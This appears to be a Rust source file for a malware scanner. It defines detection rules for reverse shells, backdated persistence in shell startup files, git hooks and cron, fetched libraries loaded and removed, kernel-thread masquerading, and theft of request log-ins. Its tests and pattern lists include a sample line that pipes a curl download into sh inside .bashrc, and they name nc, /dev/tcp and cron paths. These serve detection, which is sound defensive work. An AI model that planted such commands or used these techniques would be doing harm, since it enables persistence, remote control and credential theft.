//! Rows of functions that plant something where it starts again or is loaded once, and take care that nobody sees it: times
//! are put back, files removed, names of processes borrowed; and of those that hand a shell or what others confided to an
//! address which stands in the program.

use super::harm::{GO_STARTS, SENDS};
use super::rows::What::{self, Calls, Names};
use super::rows::{CONNECTS, EXECUTES, ROW, Row, SHELLS};
use crate::model::ByteView;
use crate::rule;

rule! {
    /// One function connects to an address that stands in the program in numbers, and starts a shell on the connection: the
    /// shell is for whoever owns that address. Known uses: reverse shells in packages and trojanised tools. Honest
    /// look-alikes: none is known; what serves shells to others waits for them, and is told where.
    pub(super) SHELL_GIVEN = "native-shell-for-written-address" in "net/reverse-shell";
    severity: Critical, confidence: Certain,
    title: "Starts a shell for an address that stands in the program",
    reference: "https://attack.mitre.org/techniques/T1059/004/",
}

rule! {
    /// One function writes a command that fetches or connects into a file from which shells, git or cron start it, and puts
    /// the file's times back or makes them old. Known uses: back doors in tools for developers. Honest look-alikes: none is
    /// known; what sets up a shell leaves the time at which it did.
    pub(super) BACKDATED = "native-command-planted-backdated" in "persist/shell-rc";
    severity: Critical, confidence: Certain,
    title: "Plants a command where it starts again and puts the time back",
    reference: "https://attack.mitre.org/techniques/T1070/006/",
}

rule! {
    /// One function writes a file from which shells, git or cron start something, and sets the file's times. Known uses: back
    /// doors in tools for developers. Honest look-alikes: tools that copy a home folder with its times.
    pub(super) BACKDATED_FILE = "native-start-file-backdated" in "persist/shell-rc";
    severity: High, confidence: Likely,
    title: "Writes a file that starts something and sets its time",
    reference: "https://attack.mitre.org/techniques/T1070/006/",
}

rule! {
    /// One function receives from a host, writes what it got into a temporary file, loads that as a library and removes it.
    /// Known uses: loaders. Honest look-alikes: compilers at run time load what they wrote, and receive nothing.
    pub(super) LOADED_ONCE = "native-fetched-library-loaded-removed" in "exec/download-run";
    severity: Critical, confidence: Certain,
    title: "Loads a library that it fetched and removes it",
    reference: "https://attack.mitre.org/techniques/T1129/",
}

rule! {
    /// One function starts a program under the name of one of the kernel's threads, and talks to a host, keeps the shell from
    /// remembering, or has the program in memory only. Known uses: miners, implants. Honest look-alikes: none is known;
    /// listings of processes know such names and start nothing.
    pub(super) KERNEL_NAMED = "native-starts-as-kernel-thread" in "evade/masquerade";
    severity: Critical, confidence: Certain,
    title: "Starts a program under the name of a kernel's thread",
    reference: "https://attack.mitre.org/techniques/T1036/004/",
}

rule! {
    /// One function takes the log-ins out of requests that pass through (`Authorization`, `Cookie`), and beside it something
    /// is sent to an address in numbers that stands in the program. Known uses: trojanised proxies and middleware. Honest
    /// look-alikes: none is known; a mirror is configured and leaves log-ins out.
    pub(super) HEADERS_COPIED = "native-log-ins-of-requests-copied" in "cred/env-secrets";
    severity: Critical, confidence: Certain,
    title: "Copies log-ins of requests to an address that stands in the program",
    reference: "https://attack.mitre.org/techniques/T1557/",
}

rule! {
    /// One function asks for the names of the user and of the machine, fetches a file into the folder for temporary files and
    /// starts it, beside a look whether somebody debugs it. Known uses: first stages that choose their victims. Honest
    /// look-alikes: launchers of games, which count machines and guard against cheats.
    pub(super) CHOSEN_FETCHED = "native-tells-names-fetches-starts-unwatched" in "exec/download-run";
    severity: High, confidence: Likely,
    title: "Tells who is there, fetches a program and starts it, unless it is watched",
    reference: "https://attack.mitre.org/techniques/T1480/",
}

rule! {
    /// One function asks for the names of the user and of the machine, fetches a file into the folder for temporary files and
    /// starts it. Known uses: first stages. Honest look-alikes: updaters that register the machine that they run on.
    pub(super) NAMED_FETCHED = "native-tells-names-fetches-starts" in "exec/download-run";
    severity: High, confidence: Likely,
    title: "Tells who is there, fetches a program and starts it",
    reference: "https://attack.mitre.org/techniques/T1105/",
}

/// Stands for every text that is the address of a host in numbers, with a scheme or a port.
pub(super) const OF_NUMBERS: &str = "<an address in numbers>";

/// Where addresses in numbers begin that lead to hosts elsewhere: behind `http://` or `https://`, or before a port.
pub(super) fn numbers_in(view: &ByteView) -> impl Iterator<Item = usize> + '_ {
    let bytes: &[u8] = view;
    // Between the first two numbers there is a dot behind a digit; most dots in a program stand elsewhere.
    view.places_of(b".").filter_map(move |dot| {
        let before = bytes.get(dot.saturating_sub(3)..dot)?;
        let digits = before.iter().rev().take_while(|b| b.is_ascii_digit()).count();
        if digits == 0 {
            return None;
        }
        let start = dot - digits;
        let rest = bytes.get(start..)?;
        let len = rest.iter().take(22).take_while(|b| b.is_ascii_digit() || matches!(b, b'.' | b':')).count();
        let text = std::str::from_utf8(rest.get(..len)?).ok()?;
        let (host, port) = text.split_once(':').unwrap_or((text, ""));
        let numbers = host.split('.').map(|n| n.parse::<u8>().ok()).collect::<Option<Vec<u8>>>()?;
        let is_elsewhere = match numbers.as_slice() {
            [0 | 10 | 127 | 224..=255, ..] | [169, 254, ..] | [192, 168, ..] | [172, 16..=31, ..] => false,
            // Versions are small numbers.
            [a, b, c, d] => *a > 9 && (*b > 9 || *c > 9 || *d > 9),
            _ => false,
        };
        let scheme = ["http://", "https://", "tcp://"].iter().find(|s| {
            start.checked_sub(s.len()).and_then(|at| bytes.get(at..start)).is_some_and(|b| b == s.as_bytes())
        });
        let apart = start.checked_sub(1).and_then(|at| bytes.get(at)).is_none_or(|b| !b.is_ascii_digit() && *b != b'.');
        let has_port = port.len() >= 2 && port.parse::<u16>().is_ok();
        (is_elsewhere && apart && (scheme.is_some() || has_port)).then(|| start - scheme.map_or(0, |s| s.len()))
    })
}

/// Files from which something starts again, as far as users have them.
const START_FILES: &[What] = &[
    Names("/.bashrc"),
    Names("/.zshrc"),
    Names("/.bash_profile"),
    Names("/.profile"),
    Names("/etc/profile.d/"),
    Names("post-commit"),
    Names("pre-commit"),
    Names("post-checkout"),
    Names("post-merge"),
    Names("pre-push"),
    Names("init.templateDir"),
    Names("core.hooksPath"),
    Names("/etc/cron.d/"),
    Names("/var/spool/cron"),
    Names(".config/autostart/"),
    Names(".config/systemd/user"),
    Names("authorized_keys"),
];
const COMMANDS: &[What] = &[
    Names("/dev/tcp/"),
    Names("curl -"),
    Names("wget -"),
    Names("curl http"),
    Names("wget http"),
    Names("| sh"),
    Names("|sh"),
    Names("| bash"),
    Names("|bash"),
    Names("nc -"),
];
const WRITES: &[What] = &[
    Calls("fopen"),
    Calls("open"),
    Calls("openat"),
    Calls("os.WriteFile"),
    Calls("os.OpenFile"),
    Calls("fs::write"),
    Calls("fs::open"),
    Calls("led::open"),
];
const SETS_TIME: &[What] =
    &[Calls("utime"), Calls("utimes"), Calls("utimensat"), Calls("futimens"), Calls("futimes"), Calls("os.Chtimes")];
const KERNEL_THREADS: &[What] = &[
    Names("[kworker/"),
    Names("[ksoftirqd/"),
    Names("[migration/"),
    Names("[rcu_"),
    Names("[kthreadd"),
    Names("[jbd2/"),
    Names("[watchdogd"),
    Names("[kdevtmpfs"),
];
const GO_ASKS: &[What] = &[
    Calls("net/http.(*Client).Do"),
    Calls("net/http.(*Client).do"),
    Calls("net/http.(*Client).Get"),
    Calls("net/http.(*Client).Post"),
    Calls("net.Dial"),
    Calls("net.DialTimeout"),
    Names("HISTFILE"),
];
pub(super) const FETCHES_WINDOWS: &[What] =
    &[Calls("WinHttpReadData"), Calls("InternetReadFile"), Calls("URLDownloadToFile"), Calls("URLDownloadToCacheFile")];
pub(super) const STARTS_WINDOWS: &[What] =
    &[Calls("CreateProcess"), Calls("ShellExecute"), Calls("ShellExecuteEx"), Calls("WinExec")];

pub(super) const PLANTED: &[Row] = &[
    Row {
        rule: &SHELL_GIVEN,
        window: 1200,
        needs: &[
            &[Calls("TcpStream::connect")],
            SHELLS,
            &[Calls("Command::new")],
            &[Calls("Command::run")],
            &[Names(OF_NUMBERS)],
        ],
        ..ROW
    },
    Row {
        rule: &SHELL_GIVEN,
        window: 1200,
        needs: &[&[Calls("led::connect")], SHELLS, &[Calls("led::run")], &[Names(OF_NUMBERS)]],
        ..ROW
    },
    Row {
        rule: &SHELL_GIVEN,
        window: 900,
        needs: &[
            &[Calls("net.Dial"), Calls("net.DialTimeout"), Calls("crypto/tls.Dial")],
            &[Calls("os/exec.Command"), Calls("os/exec.CommandContext")],
            SHELLS,
            &[Names(OF_NUMBERS)],
        ],
        ..ROW
    },
    Row {
        rule: &SHELL_GIVEN,
        window: 900,
        needs: &[CONNECTS, &[Calls("dup2"), Calls("dup3"), Calls("dup")], EXECUTES, SHELLS, &[Names("HISTFILE")]],
        elsewhere: true,
        ..ROW
    },
    Row { rule: &BACKDATED, window: 2500, needs: &[START_FILES, COMMANDS, WRITES, SETS_TIME], joins: Some(2), ..ROW },
    Row { rule: &BACKDATED_FILE, window: 900, needs: &[START_FILES, WRITES, SETS_TIME], ..ROW },
    Row {
        rule: &LOADED_ONCE,
        window: 2500,
        needs: &[
            &[Calls("dlopen")],
            &[Calls("unlink"), Calls("remove"), Calls("unlinkat")],
            &[
                Calls("mkstemp"),
                Calls("mkostemp"),
                Calls("mkstemps"),
                Names("/tmp/."),
                Names("/dev/shm/."),
                Names("/var/tmp/."),
            ],
            &[Calls("write"), Calls("fwrite")],
            &[Calls("connect"), Calls("recv"), Calls("SSL_read"), Calls("curl_easy_perform")],
        ],
        joins: Some(2),
        elsewhere: true,
        ..ROW
    },
    Row {
        rule: &KERNEL_NAMED,
        window: 2000,
        needs: &[KERNEL_THREADS, &[Calls("os/exec.Command"), Calls("os.StartProcess")], GO_STARTS, GO_ASKS],
        ..ROW
    },
    Row {
        rule: &KERNEL_NAMED,
        window: 900,
        needs: &[
            KERNEL_THREADS,
            EXECUTES,
            &[Calls("connect"), Calls("recv"), Calls("curl_easy_perform"), Names("HISTFILE")],
        ],
        ..ROW
    },
    Row {
        rule: &KERNEL_NAMED,
        window: 900,
        needs: &[
            KERNEL_THREADS,
            &[Calls("memfd_create")],
            &[Calls("fexecve"), Calls("execveat"), Names("/proc/self/fd/"), Names("/proc/%d/fd/")],
        ],
        ..ROW
    },
    Row {
        rule: &HEADERS_COPIED,
        window: 2500,
        needs: &[
            &[Names("Authorization")],
            &[Names("Cookie")],
            &[Calls("net/textproto.MIMEHeader.Get"), Calls("net/http.Header.Get")],
            &[Names(OF_NUMBERS)],
            SENDS,
        ],
        joins: Some(3),
        ..ROW
    },
    Row {
        rule: &CHOSEN_FETCHED,
        window: 2500,
        needs: &[
            &[Calls("GetTempPath")],
            FETCHES_WINDOWS,
            STARTS_WINDOWS,
            &[Calls("GetUserName")],
            &[Calls("GetComputerName")],
            &[Calls("IsDebuggerPresent"), Calls("CheckRemoteDebuggerPresent"), Calls("NtQueryInformationProcess")],
        ],
        joins: Some(3),
        ..ROW
    },
    Row {
        rule: &NAMED_FETCHED,
        window: 1500,
        needs: &[
            &[Calls("GetTempPath")],
            FETCHES_WINDOWS,
            STARTS_WINDOWS,
            &[Calls("GetUserName")],
            &[Calls("GetComputerName")],
        ],
        ..ROW
    },
];

#[cfg(test)]
mod tests {
    use super::super::tests::{Step, run};
    use super::*;
    use crate::analyze::native::testing::ElfBuilder;

    #[test]
    fn a_shell_for_an_address_in_the_program_is_told() {
        let imports = || vec!["connect", "dup2", "execve"];
        let steps = |history: bool| {
            let text = if history { Step::Text(8) } else { Step::Gap(7) };
            [Step::Call(0), Step::Call(1), text, Step::Text(0), Step::Call(2)]
        };
        let data = b"/bin/sh\0HISTFILE=/dev/null\0";
        assert!(
            run(ElfBuilder::program(), imports(), data, &steps(true)).contains(&"native-shell-for-written-address")
        );
        assert_eq!(run(ElfBuilder::program(), imports(), data, &steps(false)), ["native-shell-on-connection"]);
    }

    #[test]
    fn a_command_planted_with_its_time_put_back_is_told() {
        let imports = || vec!["fopen", "utime", "fputs"];
        let steps = [Step::Text(0), Step::Call(0), Step::Text(10), Step::Call(2), Step::Call(1)];
        let data = b"/.bashrc\0\0(curl -s https://a.invalid/x | sh)\0";
        let all = ["native-command-planted-backdated", "native-start-file-backdated"];
        assert_eq!(run(ElfBuilder::program(), imports(), data, &steps), all);
        // A line that says where programs are, and a copy of a home folder.
        let honest = b"/.bashrc\0\0export PATH=\"$HOME/.local/bin:$PATH\"\0";
        assert_eq!(run(ElfBuilder::program(), imports(), honest, &steps), all[1..]);
        let without = [Step::Text(0), Step::Call(0), Step::Text(10), Step::Call(2)];
        assert!(run(ElfBuilder::program(), imports(), honest, &without).is_empty());
    }

    #[test]
    fn a_library_that_was_received_loaded_and_removed_is_told() {
        let imports = || vec!["connect", "mkstemp", "write", "dlopen", "unlink"];
        let all = [Step::Call(0), Step::Call(1), Step::Call(2), Step::Call(3), Step::Call(4)];
        assert_eq!(run(ElfBuilder::program(), imports(), b"", &all), ["native-fetched-library-loaded-removed"]);
        // What was compiled here.
        assert!(run(ElfBuilder::program(), imports(), b"", &all[1..]).is_empty());
    }

    #[test]
    fn the_name_of_a_kernel_thread_for_a_program_is_told() {
        let imports = || vec!["execve", "connect"];
        let steps = [Step::Text(0), Step::Call(1), Step::Call(0)];
        assert_eq!(
            run(ElfBuilder::program(), imports(), b"[kworker/u8:2]\0", &steps),
            ["native-starts-as-kernel-thread"]
        );
        assert!(run(ElfBuilder::program(), imports(), b"[worker/u8:2]\0", &steps).is_empty());
        assert!(run(ElfBuilder::program(), imports(), b"[kworker/u8:2]\0", &steps[..2]).is_empty());
    }

    #[test]
    fn who_tells_who_is_there_before_a_fetch_is_told() {
        let imports = || {
            vec![
                "GetTempPath",
                "InternetReadFile",
                "CreateProcess",
                "GetUserName",
                "GetComputerName",
                "IsDebuggerPresent",
            ]
        };
        let steps = |calls: &[u64]| calls.iter().map(|call| Step::Call(*call)).collect::<Vec<_>>();
        let told = |calls: &[u64]| run(ElfBuilder::program(), imports(), b"", &steps(calls));
        assert!(told(&[3, 4, 0, 1, 2]).contains(&"native-tells-names-fetches-starts"));
        let watched = told(&[5, 3, 4, 0, 1, 2]);
        assert!(watched.contains(&"native-tells-names-fetches-starts-unwatched"), "{watched:?}");
        // An updater asks nobody.
        for rest in [&[0, 1, 2][..], &[3, 0, 1, 2], &[3, 4, 0, 1]] {
            assert!(!told(rest).iter().any(|rule| rule.starts_with("native-tells-names")), "{rest:?}");
        }
    }

    #[test]
    fn log_ins_that_pass_and_an_address_in_numbers_are_told() {
        let imports = || vec!["net/http.Header.Get", "send"];
        let steps = [Step::Text(0), Step::Call(0), Step::Text(14), Step::Call(0), Step::Text(21), Step::Call(1)];
        let told = |data: &[u8]| run(ElfBuilder::program(), imports(), data, &steps);
        let data = b"Authorization\0Cookie\0http://203.0.113.40/trace\0";
        assert!(told(data).contains(&"native-log-ins-of-requests-copied"), "{:?}", told(data));
        // To the machine itself, and headers that let nobody in.
        assert!(told(b"Authorization\0Cookie\0http://127.0.0.1:80/trace\0").is_empty());
        assert!(told(b"Accept-Langua\0Cookie\0http://203.0.113.40/trace\0").is_empty());
    }

    #[test]
    fn addresses_in_numbers_lead_elsewhere() {
        let places = |text: &str| numbers_in(&ByteView::from_vec(text.as_bytes().to_vec())).collect::<Vec<_>>();
        assert_eq!(places("x198.51.100.23:4444"), [1]);
        assert_eq!(places("a http://203.0.113.40:8080/trace"), [2]);
        assert_eq!(places("https://203.0.113.40/"), [0]);
        for no in
            ["127.0.0.1:80", "http://10.0.0.1/", "192.168.1.10:22", "203.0.113.40", "1.2.3.4:80", "300.51.100.23:44"]
        {
            assert!(places(no).is_empty(), "{no}");
        }
    }
}
